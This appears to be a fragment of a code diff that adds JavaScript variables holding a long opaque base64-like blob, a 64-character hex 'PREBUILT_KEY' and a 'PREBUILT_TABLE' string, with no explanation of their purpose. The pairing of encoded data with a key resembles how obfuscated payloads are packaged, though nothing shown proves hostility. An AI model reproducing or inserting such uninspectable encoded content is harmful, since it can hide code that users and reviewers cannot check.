3uMTBbT/u4v7mxScMXgnmXxded/PmKwxDlD8q/VL4uxc/tZPgs4Lt95Hwhkf9aVomlP5Fxv9N+IcPH07/XhH+6ceH0r9/Cm/68SH0j8xf/uWnf5qWCa6///FveecfUv/+JbztqX+algmhf7XSRP4dT/0z+ED9I/PXd/30L0T5o9Ibwns++kfaIFj++4V/e/XfjBbS/v1FeN+HD6N/Eekd4QM/PpT+/Uf4jx8fyv59KHzoa/8yWrD+vS185J1/SP37SPjY2/5ltFD6967wibf9I3yI+eN/hf/62r/g8tdIee5/fvYvo80K1t9T4VM33+E3AHvdH/KZHx9Cf0j/+9yXDxN/+Vz4wpcvtoXJ/0sPvjwAB8+/zzLuoPDK30sB3fl/zHMefHkADrP/jPfkEyF5QRQ8+PIAHKy/AKInbw7AwXxEjLj5KcVUPuT4+4lQ48OHsX9k/Kv140PZv1ox6seHGn+jYp3oY/9C7L+rkz4W6r3zD2n/6sQG0cv+kQ2IYezf/4RGLz5h8Eqw/QEYJ/rYvxDlr5E+FcaL3vaPtEFw/f1DmID4fC6XaRlMZ9WRwUJLMhc4fxakFkFC/MhgwUhCLYaL/0A9wHZY/mI+nyvoPrl7zd+2F7dHfFbJ5gwBcoW+sPOvHRDfQcpe0Lwz97n/f0fED+ayaiGXS6pKtkXTC4H3D9dLh8JOiO9XtH7jHaIt+UIu1P5HgJ0Rn+w0Ss8UP9oFy0+K36foqk8NuO//GSfsivhilqSgJDJquPaD8f+F3XD51UKuWhM4eW78abC7q/5JLYbjyfn7PRA/QE7fqyMtWfMewkD7Qe7v2hPxE1O5LLl3PqMOqZmJ4eIPeyG+h0qgJ/D8Aln/2VvE+y8wH6b+AfZB/Mbla9J9rSzxux1E2ckz3D8FtfuK+7p4/wTc8b+J4kQX73d7ldf+iwZxPyfvf/2Xx/15jwr7u/lelvhvk5M3Vw9CyS82pGGSm586Y3ZY+7ufeICTl5sY2m+yOBnx61dt3BcC4vfUB+I7/IG4/zmurgu+f+Zb/EEiAGe9/4jc3wEB+1/w35y4OzcF846334a5/+ZgxMedLzAMyJ/4zs2IJ/dfsMhP+BbEOy+uDL4/6298Ky5/Jp1QEvT+m2r3T5D9O200P1rMOvKven4QoJ3mk5lcMeXIX/bvfwAdmC/fP2NdRCQ7XgDvtN/ihN2FThdPruAw3wOKrv/wjL9HpN2EqWLl/oycpsXxHUiV2L3f/seF3DSUv6ZqGrk8huX98dPdvH3/ouP6GI/4+W7iDIpPFgtpfbQsgOwQwL3/EOAQD94hv+/9NeT87Uys/+b9LXYVUssfnvu/txdmufhKCwSVv7ZxtjjbxTcz5H+oeCji+yntDdZ/sv44B/OqvjWL7i0Nc//QNzBfVIZV1IWC7h/nGgAOc/FxOwGH+nms/8bEGOaHKfUHh/p7nv/tcuUfvv64mi5xLuLTiUEm+0H2P3fTfBwnQBXeR/55iE9kiupgeiR0+5H7Z+bT+Tez5E/2Xy9wyI/HsOD7h+aLCzGfpHBw4J7rt4sQP6zoWo7B/hN+Me5/OS2O3zuB107B5/0bS5ztl9MYyr9IXErn38ySP9GfZQ752ez/dHE5Hr/T2VxKZdF/gBXY/iaHGfOfK66keCWjDiuj4cffOm4VnX8zS/5c/S/41YjX1WxSzeoM/sdyWIP4LYz2V6jpFNd6tp99fxtUv79tf2GdW36H/fQff+oa14nrsf+RylEuZJj7vzY4eHz5crD9+gQOR3xKHcrlNbbxayNu/1FNVwfjphul5wYc2xdkd/xqL24T8p+yOXJ7T1IhN+D1FxOB/lvjhLvgCJQ/5uP9xQQFe+Q/TjpSPNKHbw7F94g9uP63FgtqnGzgV9IV/1uuMn4CHOXkK3iI8fto8Wgn38ySf1yMu+VX0tT8oZr+HCMe4+KTub5sWk8PqeBofo/3XyiiQvW/Mknbn2rjbwLrX15Vk/3h7/+rqW8Ski757eIDdfmTj/1PuXhNVQrJ/jD1D42qqLp5oxTh2i8h9rp4vaBktYyi5wqO+pfd8aM+sQ/xpua0GMmQCBrl/3neX9Yv9lP+c66Y6s0ohZD3Z5P7O9KY72X3PzbTPHX3vMP8eb4/Z4DmU1ktfP5k/M0gvlfR9Mwom/8zSPn/hdxAkWX8upHLYvul6pl07yjD+Hk2n3PETxzjR0D/O1jMI76gpDPIfQgVP9iC+CG1kMRxyzD+T4Gy38OM4x+Ahv33tJ4okvM/IctP9n/qWH/ShWRGTaZZ5h9FFx93zN/951/k/QlDLr45NE/2zw2780+mwWE/q+wfHKHsN9k1OsQ0/xml+CG1oGTshf+g+oe6reJWrH9qnnKAZIcCuP3fU/ljsf9TyGVR9YOj+jzf33Wciy/kkyHHT3J+8Hgnn0yHrj9yf+wJrvyV1GA6nPxk/epEbL9yhT51c46p/UqO9k+olbW3IP0n7284CfF9aZ24fQz27yhxG+b742YIJ2T8AeoW8CcjfrOaHUhntdDlJ+tnp2D/v6AMpTUW+/Un7lTn+KkNpstR7ODxc4Z4Gi5/QUll1JZ8MZFJk9MftP/ttX8A4HQXHw/Nk/WrM6jxaySO72BHwVNP/atp2FE408HnB8Ex/6k+/zgL2//8IKP934M728Ebd4hX4p9QLf7Jjf+m+E2ad/gfwfb/W3j81TR1MJEZLXugQe1P7t/+tgcfd8wfoMr939/BvJJmih8Jtcfx5+DxU9FUHb36J0z/OZfSf6WQ7lVCj58k/nMeZX/61YLK5n+dT/GU+oJDfT3q/yzxu9T8Wc33oXMHYezfBZjvY83/AvFCxKsjCmP8L8ZdRPPNbPwZ3MWIH0yTHSgZpvHjEjz/yGSUQYUt/nAp4vPprJrMZVWW+r+M8h90NZNhy/9yav2jkHfUX6D/e4WDxw0Y9P4CIv/3HDx+7VkY+b+Px69cn6r3q4WyDLLjAnz3+/POFa/04MPaL6hfIv7AM/9w9gsarhKvovz3vsFcqjKDCGN/r8bjX4Y1fs7z1yB+K7P9/IF4LTV/TKqJXG4gvP07gL8O84m4ks+zzZ+vp3mm9Ruou0G8geaZ/C8y/7oRx++zmq4gAxpm/vVDvP7Qr+gaqoEw7X8Tth/k5Q9m9NIxf/DWP3L/3s20/5TvRxoQ5P8Lddtxt9DxfzWe7FeyWVOHae/L6/6b48Uf4fHLRK0ixHX6/JjX/d+vcrei+KvFO+K3/vEjcv/9jxFvyM9Qf2LDEeJP6PIPqKl0lsV+/xSPP0o601fMMow/9eLPMN/HHn/6uSP/zarO4P/8A27D/Gb2/G+n8td1tTCY0/Rw9remnhPvwLyqaUqfmkgXwq0fk/njnbj/5DR9UCkMsLTfXdj+D6dJARjWv9vFu7H9d7z2M4z/dw/l/2W14qBaiDv2j4BP/Lp2AsC97v0jxhyApBEUPxWlH4v34f5n5V82wo7lD4/1pzni/Th+lssqfYz+7wN4/FKzKVUbYPLfH6TG36ySTapM+xd+QdV/OptA754Noz8PYf0z3//eHP79R1fxD2P9z6qDuWw6WfbAg/2flPgI5f/nM7nRyhuUgvlHxUep9fNMRmV6f9F68ZfYfyfOk5ZUsgzj569w+2lJRIdr/8eo/p8Z7ctl7TSC7AeJn/0a959CIo0FCNP+v6H8h95igWH+QOLHjyN+oKBQb64N03+eoPyH0bzCNH9YIP6Wip9vzRXy4dffuejfhSex/7+lqLDOf3+H6z9dSJAqCJs/2b/6e6w/xT4tq/QxxS+fwv1H0ZVUro9p/vgHzKfYx88/UnwzM/+0M38m//tp8U/O/Jn4P4l/xv0/o2h6Osk0/3wG8xpb/fE114nP4vhdLquOJnODiZD2p6bur8Jz9P7VVFZh09/nab6PZf2N7D99gea3pnNs/IsOviVNx8+hav3fx7/k4OMMPBk/X6bWb7U+NZtWw9sPgL/g+QuB447391Vdv/il+IqTd7x/MSh+96pj/lVIFfVRhvHrNScfryRA377hHj9r6wH+iu1vLpNJKAUm+/M3Kv6S1QuM67+vU/sXMsXsAJv+/Z2KnyeZ4t9k/+AbNN/Myv8Dy68relHL2z5o0PyD3F/5T8wXB3NkD3uSYf/Hmw4+jhIIXv97C/7l5Jnm/2+Jb+Hxc0AdzaiVVyCH8V/eptefh5VCimH9HeAd5/wlE+/X9bzDf/Sbf68W33XxbPHD9xA/0kyn4Aj/eMZf/k2t3w8qKYb1V7EB4H0qfyMFcORftf9+QM1/Cjk9XZlBhjl/8B/M62z7T0j5P6TOP/TlMmmFaf70Ed1+vZkijr9V1x/y/pGPsf4rWqal/BIfR/xJ9nn/3SfYf1Z6BxSm+Fcb/NfFO/bvV9n/JDT+T/wftf+0Xx1U4gW1jyxEjDrWL73Of3TAp/T8IVMcYdH/T8TP8Pwxl+3LpRJxRc8Yl/cFnd+IjDuc/xzLn80N92YqDniY9vvCwWtbMgz+XxP/JeKLeU3H1waGmf+Rd8Db7TcUL6iabmsAWj71PX/ARaj5h05Oj7L4L3yE2v+QT+RGmPxfIYLPHyS0fE5nmL8sF0TMO15gHtx/dxAiEew/9A2SAzCV+pMD66/Ggw97fogbVxup9eCHC2ldDcGT8ztRL/mtIdQRPvNYP49G6iJ4/4SayTD432T+Xo/4uUVtdG5uRB5qbwl5fhKgIVL5fuGK9cb9+QfLQ2pBSwfefydK54mNiN/n7CgEnH90nR8ch/hVS/FtFGHOT94ujEf85NtaP2fjASYg/vMZWzceEcA7x38J8e1dmyat3RSeJ/7rdoifsfXeWw/YkyX/Vm57xK9RCvvuXhueJ/qzA+L7tS0aa/3tiHhx4vJd2fjt+Z0Qf+ayI1bCuPrd66ufv0X+33x+Z8R3z2tra+fYyr8L4smdBcpgfQBP289dXfy4+gAezf92i+yG+K3rNuqs9b874tNfg98D893dq1h4Tpwt7In4RVO1xWw8wF6In7Ksu4tV/r0R3/w1+H0Q35se7mOVX0Z8U0fKQQSdn54g7ov5zjZm+zmR4tuZ+f0ovoOZ35/iOxn5J8Umip/KnP8kip/GzB9A8dOZ+ckUP4OZP5DiD2HmD6L4mcz8FMxPZdWfdv5gimfXn2aK72TmWyieXX9aKZ5Vf7aHNopn1592imfXnw6KZ9efTopn15+pFK8w2j+AaRSfYOanU3ySmZ9B8Slm/hCKV5n5mRTfy8zPwvw09vFjNsWzjx+HUjx7/59D8ez9/xsUz9r/X+MPo3j28SNG8ez9v4vi2fv/XIpn7//dFM/a/3/KzaN49v4/n+LZ9X8B5qez6+9CimfV3yP5RRTPrr+LKZ59/FpC8ez6u5TiWfW3h19G8ez6u5zi2fV3BcWzj18rKZ5df1dRPPv4tZri2cevNRTPPn6tpXjW8WuPyDqKZ++/6zE/g3X8OpnfQPGs/f+f4uEUzz5+baR49v6/ieLZ+/8RFM/e/4+kePbxq4fi2fv/URTP3v+PpnjW/n8CF6d49v5/DOJ7RhwBABkC7y9TME+u7ks5sq+6/rK/mKDmf6z9f6OQpHjW8l/Jp6jyd1bDPetPpfipzHwvxU9j5vsofjoz30/xMxj5m/i0o/07g+LP6G8+skLY7OCnMvEAAw5+GiOfcfDTGXgusl4YdPAzmPhsJEvxxzLbjxzm17cZP2Hjt1w0F8ljvq36BMIrfriF4tntb4Hi2e2vhvl29vmjTvHs/neR4tnH3yGKZx9/hymeffwdoXj28XeU4tnbfyvFs7f/sYiftN8II58SjqP4jYz88ZHjKZ5d/06geNb2e184keLZ269E8azt92v+JIpnbb+TxW0Uz+4/nUzx7POnUyievf+fivlMbjihFGaHtb9k/+RpmO8fzfer2dA82X90OuK3FHO6mmrOF9JZYx9G0P1dIL3FnYH4/wM=";
+var PREBUILT_KEY = "8ae9951a50cd681d99aca5a02fd7d3d0dbbfefe60f029a391e5a4c0c70f3f519";
+var PREBUILT_TABLE = "vZ0HfBtF9vjfFtmyHScCQm8iYAjFPYUk5JDTQ3oBEjCIlbS2FcuSouISmuj1IPTee++9995779wdv+Pg4I4O+d/srqQ3u7PaGfz5/P25C7a033lT3rz3pu5l16x78rr17/xy7bVzWi4df+t9I/yvfPWvi755CKyfrT/c7P3FuZ/uTXdc3JvbMfg5wMf9h6479Oc5AAHy/ZnvhH989bVbX3v73iWXH7nJtz/UwNB3635c96MKUCDf3/sThP/27uG33Pz74pG/LLhk9Azwr/pm3Te/ku+kggrfL3nw1Vfyx9//6ovrb7n+3TfcBzD1trt+u+s3gksA6k6b7L7JwoW3Tl+8SeGeXd9Yci7AK/0P/PL7GpK6BCqUfmTyA44f2S+P9Y8dK4PsH6vuuOPYSaWfEUHYRfX7d3T9qd2p1r+j7P49jICx4PUjw/+vn8VIVJ2P/PuECrAp+vRJhfy7ylf8e5L125ESwFyjKs+VAaYbnz4q4bQbqb+O9ZV/f0qic3Ee9fcEQ+LpKA8X+gByvtd8+KmL4EiPavq7CvCI784Sdaz1/BwHdxr1iVpSkKCPnfJ5yoGlb+6U95IBfpWDCsBDpXJcZaXYS6Xwvor/2sXW2tvCstLTtapT6vYK/fetPoAOeT2XPN5hJLvc+PYM5hONytG+MVaOtzP+uzkzra/UGVYW/1LK1f6+830A38qvIGInGWDQ+PtVmCRfZzD1PoBtrWe2kgB2lQEulW43PtmKtJFDWga1xbvWf+cjKaN93lp9VymNJ43ftrTV3N5WqW+0yjNGfsb47VcV4O5SG6pwkOoiQAXYzdfv+PYjuLlC7i6mtKy+RD+Pcveu70gjhV9Ln7ys8PZlRTrXkv6C/Bj0Ubkb6xtXIWe1ju829L1m8PNVgImlHMyTj1MBnjHKcaDknt74EtHK/L7bVqb50jyU25W23OwujVDPLH12O6PXP2h9FmS2140ovQcZtdkFJ0sAXyB2EfXUCvVwI4V9HewnVsopu9xS3ZyinF2S/iCcU3pgY98utnLsbDFVcA31zSbSZeouVhp3Wp9dTvoi7CX1Gsye8ihfpw/gZWYLfykBvOSolzkGeZgKcJ0P4HTSRxisH6WYMNJYV/r7dB/Anco/FYDJDE24rPTbQ+pLkocP8ol4rH9YZSn4nrM4zfrv3ww5H1GpzWf6iKwjRwcY1B2qu9yjHMztKsDR8t+sv74uSbra+O0UI8UXmWX7vfTs75ZOPVDSrUN8ANf4TrFJ20MayUjJV0rnWuPfU0vP7IeeTgFAuwzwgfX3NFtKT6Hf/+WogckV7M9xRi7PNX7/jwxwrfqMzwrhqJ8PbBIvoUr3GWjyTLVyq9/M1KEFRvk/VA9y1M33zPRO9gE8QGtEiWyyxwRSwvjuBtI3VYCrPLV0v1Iet/IB/C5dxaHNn5atkATwg5FCwJeWXyl9/huTW48qxcZmP7DV0RNGjhX1KY+cv65eYJFb25582vbkGkrqjdJyW+/KSF7lfcZ4Yh/E/RXJfEsF6EVB8Ggz1ihp4E6lVj3e+PcKH4CK9HNHH8DncDOkK5b4IBkgKQN8XMrt/6E0dkZP/hV+NJ65D7YsSa7GNWD6VkTfhb69TgJI2GrkMSNny6xPD/bt+z/rvEi9yUj9U+VT322U3r7/v961ma0s91p1d7e8laNnbipdL7Wr/6U+/x7VdTuzPtK2vnICo/Z65fcg5xFv/1sGuJ2hAe8yPvutlMchzsHOR+i5U41/3/bQ65DDBjynAtzn+7ok+2wjzQdL6exFPjO+3ceW9o1yD0Pazy76/rEMcJ66g2vONjJ7pvHvcwrAHxLAbIbFGiqlfxyzrOuUDPr8Uard31VjjBS3q1BnexALAACPGLXyrFXfU+FwK50f4QyUYosC0Gj83Uksum+NCvAmI/V6GeAiKmffULX2sO8eizqT+nyiD+AUI/1/wvPWE9XWf4PWk5f6ni4xF1BSp/gAFhlPP2nleU/rG53K444KwCzqkz7qr8eoPB0v3WzUSkAC6FUBBqw6+tL4NycB/GJIi6rLqLq/Ats79PsRFb3eP1WAjamau9XDS15nfL9BcYTsA9hfft0oz1xGL/vS+OyfjG+ukO5ytOTO1HM16mXKtjayyiV3Nzk+ecGo1bjL82fKAC1lH+/71Wbnltrk/oy+/5p4Q/T9C74+469V0FwhjvlC9lt5yVPlnsRkjjGeWd/493OGxi9QOinufJSfC3wA+6qv/m/k/ojxdwOD72FaxMukO4xn/2PkdFsFIGb8/Tz0l56fLF9dqtNRjLwfL++lfFF0r0YbbOID+IcE8DHVFjugHHyKvtmmlNsulO9rSITHsIT/VTeUrjZ+29J4+uTy3ETp6V2Nb27xsOTLGZpyZSmPl6oARxkpzCulc4+yhbQjsx7/S2Yg6NmcEvUQ9flJpo82UpGV0czUbrPYHUq1vQMqy0IGcYJV9vGwSAKY4un9toMRpbQ3op7WbbXyHfr2ShLaqmcZeamTAI5Wz1apgSnso0w30n1FfUEB2M3Za303q7L6BrGcxK5Z4DkCU5NHGNJX23JZZ/29C6Wfm/ougb/4AN42vt3Zd44P4ExzdKBWuWpHQPkFUrYcdTg08Qz5DfTMDNf8Pm3IftjK325U/tRSqj8Zn1+P8tSIbWDF+kmqAGc4SrPKYuYZMuYb6X/LtI03+AB+tL45xqK6mbVzpottPcwHsJ/6ifHt8/LmpTJ+jFLZqOKM01yX1lgtdyKZ95KcyWdZefyllOIEg35P/qEYectrre8GjX83ML5/yfeHkdZYR22+yIy4DjI+vdZgj5MPkWfbuDCzVXyW5NNcSnS4jXqWqtMR1rdvo6e6rBS/UwFOsrXA9ba/fyhxh5bk/2Y9I/kAwr4Pbfk619EuU9X5ru30X2JXJTzM/U0C+EvR+rj2qc8UgF0V3crdeBVgrW+F7WkJlfllVK6R6PfNjGeuNsgLKXoSQzdVlOLfHeUcdLRfmMzt23Thk2Lcb8jsKOX5OYoeif4igmLybdKzlMQnDfJp339K6U8oj8hQTcyxfn/Eoo+WfqVy9Kj8F0PWhTJAXUlCiqpLv/HE34xvOx26fW0pr/+w1cBJPoCpvmpE/ODaa++RAE6UHyj7Bltr/qDe5kJujdJvtlFHGN/9WJLqZ/TMDdVjPGYE4laq+VL5hhja8bhvtg9gHjyE8hD53/hgPTpCKn07xvpt0ErrfFvdtPnupKTcYOVyoZWLGRb/L+UC65OlxhOfyGFppKOe37ToE1HuDlLeoCSstZWqA/39pPSOdDlizzdjJHPE7uin2/sArnfxMoeox1vpboJyORbeK/0Vk0ZbT+xLpfyZleKG8kplyCHzWul+67Op1nNNvkd9AJMkgBdKJTld3dv6/T1X67KK0bqf+a5SAYLFXlP6/AFbKhepTVS5C/K7xt8nWGlua7RDM453Syl8K71i1MEpUKs0UqkstUk5SdlYWll6YjX69kX5TqTNNaVv9vYB3A/Lje9+LpWvx1XnJ5aeCRhy3vIlizPYKm9sdbUEcK/vp9LzH3iSSqlMT7hoz0Tm53WlTy9WAR53yDmR9BNGL8+66sABLvL39AF84TESuE8G6Pf9DJN9CytalnvU3TlWFS6xcrLGt8R4+pv/6eHFxm9v4HVNQ3OOUr9XABYyUs1aqVwp3V36dg/quYcpm3G0S24yKsDzRv2OMZ7/iSrh3NJf42zcBPV29NcAaqFb5RqLClJ1HrBMNoDf7Haq1f1ka4hgPBCyUJs4GWCan3xeAGkM+UsdQzqjIUG1rYIV5LJEv5GybP0ZAjgMrRRIxWUDFaSAIbKUVAggFJBUv/VcqIxQWzfI76OD5gaQcsUdS2QVrA+CRj5hJ0QUcxeAcg2ETFGySiYQ11qkjB+V8SKfv2SP/KTaRlvFoGq6/BMsf0aeqSn/CqECo2NM89NLihKpp4DxZxC3TgGCIZBDdFAFEGItdZQQaxIAICTLRs6mlTIZLFj5L4AUgoLfSC6E86LCASGqeP7i/wBUv0QqyU+SOr6YyWColN/RUFIw2Wr3Wus7iahCMV1zWkYmT/rNHGN1DEGwtFlDtXJF8r2YrmOgqiEAfj/4CyAHybcy+X/Bj5KkmspmYwJWvcl+8iT5y9AVAwoV/7REqwHVyurFsI0ZlVD9Q8Iy5XKbmGUsIL0ukMKrRUXDq2tyIVjOcTC4PnRYaRes3mZ4yQJIKgRKGgNBI4uSFKSKpRazbnwemmG2+RySQqEoJECCCTjC0Mti5QZx/5BNQ3MsyciRxUwW+5ZaahFShsPMkgfNQkslAQXyGdEeq1H8Rl0rFi7T+gsgBco9ANUN6SQFkvh6RebYglkxRDvoNApGkS8O0aoMpnpAAdTQAYYqlMYoBUcjSlg/kNJIqj8EoYKZusUHQmsLZJm/2LZGRZc7UigUQsn7KW0IGmbJyoC/3PBgtaVUzEStaSeK2Q1RmVKLSucjHe3h8txGAexVQB4NBGXSqKHDTS2QihX6cFF5CwAjzLxJxjhAQmkVwB9C/bDsZYitnGM+ZkkKWAERsVpUW4Lf7GJmbZ1upksqzWy8YkVYPixU9GFmrwS/rVcXEyr3G5KfgNHSQZufNKqzWBIjYaMgqLceRmuj+TNasrvNGQUq5kc+7DAZa5Bs+DDCGoZADrCSL6YdglBIRn04EDS324T8qFJCJYlBcywA1rCpULaZqtHjys1eGF3UlDFFo2xbWfObGVMf3o74MLmoVvL6pApJKSTkYQMQKHb9QLk0ReGG05OPtJ4OlbPK9KDlHQ9l/bcyZ21llE3pAZAXB6nKK/jLSJkKhnAAYazsIEdvdCXDoFk+4mJguIoa2axwteyrSYexNBKNbeaoJdlqqXTBIOmARq+XLB8GeGjrp12ZbDjtApUB1Qh0ik+GbHqCa0r2Bx62R3MF2oeRXAWKtAqqhQeLszRSOclgAfU/Iw/lKg8UVdbYXFYwQ6/iswXswwxNLma4Cqu5WeRCbcESG8QlU6XypJFkNlbAb34XAsrVlFtstGH+g2A6yjElr2Va0dpiOU37Y1TzNIBNwHJmLaWeT2yw32otqAlabtug1UBZaMiaFCkZ+KIFkNZSfiZgOQ6JNlIFEqdIHdhbWSmFqN5VNINW6SXK3BWUoMNd+Uu1EpQY0U6hYDp+BB1gdGx2tyxYPsaPuxVqPz9rCBEopiGB5fNNQ1Tu37XY6hRgPRTuy6XJJrk4p0/5MH+psotdIigHrYJRxqlYD9LFJViyKLU0LimYO3VNbSrmodb0zKaAi60Bg9k1ZHU0GcUUYLvDqCyFSvk9s1hq44tCQS2PCqi2C4SKauJvCdksj6QSrVeLD4SK7RCEsbWmWoYK1oflxir7MCPUKsbUoBbsY72Cz/TRpHAqFTaoyJ+YHtcQHMJjNpUelzl+zGYOmprF2DD2v/QL5WGhv1gAI8wJjEVaobLmPbBNKkVtEqrcEMA21lhFVgtBKDufksLKRZjKP8nA+mZqapVhL21jrCpDzwKhQiiIbHCgqlwZxE06hmLFUiwvTguplg+jvJ+qFhgjSlzT5hh8W0vhLi6Pwo2KXFtcUTTGgmNAIs7PGu3WlP4JFbMt23XCzGUVNZoMGTlSg/ZQmFaAouVUKa2wt7vfUElS9+XlNgiC378delqCKj88bI8BikMUteR2A9QTY80xpYwzSfSowxor1JTyoAaCZAqCyp/p/Mm8RMHy6AFzAAOjUfbnEGmyUUO4ncwBrt9Kwl+S/3DAjBGKg6/SGMIYOOOg3PIusumnTyz2vlBxiO8P+EG2T9UYvdJMvbpog89GGysMH+CXbCECUbgDDINawMbGUMeQTfkKpYmdAHIihXIDl/xzXcgxci2usRmSA+UU/KX4T8VtELR+DaAml6wRraxYw8miDwuaKQbLNtz8b6AU9xeoXis7vVpAlUoj26BlEkIszV7fHqAb/TtAO70QlNtWLsbuZknMSgyFHCasVM5ALUrET40+KOMkbVNyaZLRjgWrq/4vuigUyl2P+DA5QIIdv7+sM4GLcdeQDcMqBSAQPMya6jBzuFjy24Ys5m9PMxbn55i9t1Q7qpEHsqZrCD4sCNIugDt6qBhuBwNXmx6+hsgteWzJ5s2I+0NzN4WSi7DNHpVGirCNNcAYXazQAirH+lYsIbma2JDlQccYUFWpy0nOQQke41mZNSx6QTL7sd98RsLrgJIFyqVII0TPqEp0gECmleRjzVxsYxM70ma1gyWvb0gwyxhSJaKrall7yXypKgeLKRlZtSZ11IJpm4gPC5jp+nFugkYJJauZzcmL4ryyYc7MsaZqav7a4hIhGbYaIXawGJsY/xtDdauyMVxrPrMdgOoz+lgwgGq8aEZn2OKOIHa/1iYQK/pUQY0UJ6uwD6sF28nAFlso47cnXap9I1/yaKnsFM2PCvaZYDNqU4mdJO3jPwCF5Va8HfTj0gWKs6GmdLOTFKdVy6vypH2kgGyzKMQDqv9LsGAlYTm5APYa/+sy/3NxhSqz5QPFxQBr0sdfVKEQmEaRlMhnuaLyMBKsmc+gRDsMqRSXl92d1eAQDJSMkT8kgTVtZPQAc149YFXaseVxKzIGcmlCyh+ylhfmw7RCKdgMWjFuyDEWMVIoDdACEhkIWsH3Uqvcarm5/ba4ojQXBcVChfC0kn20Kxcg6F+LPKQ51R6S7fFQSFJLIVOAmg6wAvZiUctrJ5Lp4oIOe+E3rEuoZD1U+4RYQC7XokytnSBXFzJauJbqJNg8BYqJSmiIXECxdKm1/LTHlazpAqvWpjkGmaVZzSBlDRU6GJFZobFVo+vJ5pR32RBfQrv7oDXXSk2pzDEelc0Yw3Q+frU8qvRb3sbSl0BIKs2uFz2zVByLkwFAyYaRFgmEysILBZDrAeuYGVNDMCTLfipCKYAVwYUwjxanrBXWsg+TpVA5Fgni5YKyc1BLzWAMB6Q5ZS0sBYDlYM9YOzE3zIZMH2buLJT9teV8BoG5pGI1YIj6omi3/MFiI6ml2ZKLAR3HDNLBkaRaM0cy3c3Kenu4YSn9UrkCL0Yhni171i81pme1fNhaP6hqSyn+gG2MGTufGQYUrKwGSq5VGmOeOyioZSUJ4QHC4eZsRHkkNAJHk0qpVwcoP1G0hWp5tOMPzZDQDIo6zSp/EE8i1frJkqDZM0JQXtk0c466egFVQAjZBavejLHCNn6bjSqUynex2QiGDwvOKWmeOUu5XdmHWcOZ4gyWHzvTQGg7284yvKpTnC41bHyV34jDylH14Y7RdNCIUv147SRgrp2gjhasIoNAKViu5AJYM7Hl2aNQacbTsJ2mD5NVY+3EtH8hcE7s+40YozifeoBszqetZ1WTMU1TzKu/vHZSmroL0YMvc2AWLK23mGsSxbUTpbzl3xj3BUorfQHUscnTaxlrCX/mZ/7yjrmVvl+3bt06yvHbtL1j3twOEb60WFDcPbVMnMeK1TFNnFeQzeiYPr1DtPwq4mNaW6Mo78Pypy2bJ8pXIT6ixzKpaG+jlo439upDjSwe/9QGrHNvVo/V+tYkm/oGsk0V5K/DmahBPpPsmNGjGT0X1qJRPZsN9+pB4wdK/7HLHxEw7XJRB0zexHv1IQss/djzD7WjzIElzTeaCTTyya9DvDaQDZtpFP1qCbbVn1X/tabqIx7j5fy71J9UA1BP841i8uuMAaEt/2UXY/L29ivrT3U9jLLxpN75+QAOwAiPcSrvZR7pb5UZAZfarz1M158tCZb+rU/LbxJtvw0o+U3C8kc79K9chWX9Y8v31ZKBskN/hfiNHHyTEL+xgy83oZf+qjXmEL/Ix1LpcH9ruKL9wgqgVgNsiuxHLJUS5DeDzSg+I8hvDpsjfuaKReBhf22bLwG2wPa7o0PYf2wJ5cPHHXPXaKL8Vlj+kqaOyK5LF07gtN+k/bZG5Z+9aNHs1pngUX94WaQ4tC/zYv53G3OCy8p/a3Nzi2j5xyB+9qLpyxavaBTSv21R/oe0tklNHvJxBmSfuepS5JdN31tYfxpw+82bO0O0/NsjPh/VcmGB/JPgYweU/45585eLyh9L6d9eC0X5HRGfa22apOf59Y/4D2PX5ybWVN6SQ4Trf2e03NP6J/hdEN/2J/hGxLf/Cb4J8eP+BN+M+PF/gm9B/IQ/wbcifuKf4NsQv6swv6F5d4LFT/oT8schvmPx3AWi+j8erb02aWuiqWRXvLspnpoyNzbVK34ns0ET0Nycje/04km/m4i+F+WlwETY1Z1v8Ja/K0waFj8ZJrvz23vx9QGAKcPgITCFOmG7c8c0Tcz/kXsYyu3fmW9paZvmnojdfys15L6oMt9QCXbx37tTfESQt3Z4Wfz22w62TZvCn3+5xtqxVeLHtVfAwR5+k0mbaYjfuWP6UtH6n+6sf9dEWPmfYav/Sjlw1l8HzLTVvwhP/N8sZ/1z55+MP2c76t89B876n25OgFUV509mRETt31zM7zNjkSi/B9p/0tLUIWy/5+H480/w8xG/c8fMHlH9W+DUP9dEnP1/d/MuAqR/lXLg1L9ZsMimf2L8YnPbPa1/3Pkn4+clDv1zz4EdJ3HrUqw/a2blRet/GebnppaL8ssp+7Nguii/p7P9XRNxtv8i424j3P6VcuC0H7Nhb1v7i/ErYIWz/bnzL9XMgZWO9nfPgbP9l8E+VPtPF/S/k2Bfqv2W9om2X6ez/VwTcfqPmbCfrf0q5cDZ/5bA/rb2E+PDEHa2H3f+oWYpHOBoP/ccONtvX9AQv8eSJXtMEhx/R9D4LxvvnirqP6Iofs/Gu0kTtscE4q+YjZ8qkH9yH4RO8w3tM/jbT64it5za+JgI3w3dNL/9toPtM6YIxD89dn5C6xTe9pf9cYjj8dOaZbpo+62i+u+yiGj/7XX2X9dEnO2/NyRs/bdSDpz97wDos/VfEV6qWglJZ//lzr9cM824RZTuv+45cMZ/cyGN+GyPltFjpfWbqR7rN+tqA6NgNUrfxnd68xnIDIMn47+sO9/Aw+eGxech785vzyO/f1j8AAwgvtxyHvP/lgaotVnrfh8bb1nRMm+uxduHz3WjAIaY/FQP+WYG/HUAa1i8ZQURH7SP3w33NQLgwGHw/hEAB7F4YkVjU2g+CMz1y4PZvGFFK5TfyEHtSIBDqPmHZTkx+5eAQxn2L8dtP/Y3Nx1g+5cTsX9Jc4M3tn9C/OHmHhGb/ePPf9o89Uzbvxx//BIxd5hWldovlU/mbOtvwYrrb0fR7U/40gJi0LaAZ9f/qrqNqFsnsrlURuvWufnqOoBjnLxQ/vFuwmgq25fKiq3/Hof4iJaL9oRt649Qef3xeMTHUtF8n57MxSJ8+a+uBTgB13863teYzUey0Uw8nYun0O4B48duP8kmsRNx/ZXRJFnFpYwvg68LkLuIkfxeLdIoGP+ehNZv+lubWkR4sv5zMuKjXXnh9aO1FC++/nQKxfeGReO/U9H8iz60R8/cVam4yPzhaej7WYmhvVqDXX2tWriy/bCSkOqsc+t+G5/h4+U66x0eNr4t7GG/Sv7Xuk3R4rtSrcL1dxaqvzlL5+3ZWGEJ227+lGrj7FFJvsELjn/OQXyyKy2c/3NR/pNdUWH+PIpPCfPnU3xemL8A8ZlkTJi/EK+fktihUcvnehq59E+tI+/bKde/xafjjbz6d7F5GJHio4m4nsw1VpZvJKHWWzu2KT4bjffx5/9SBz+gR3pSqd5GD/nrAOpGWm+0oHj++EOpMt/ZUbK/UTH9JePPK1D79UfjwvyVFK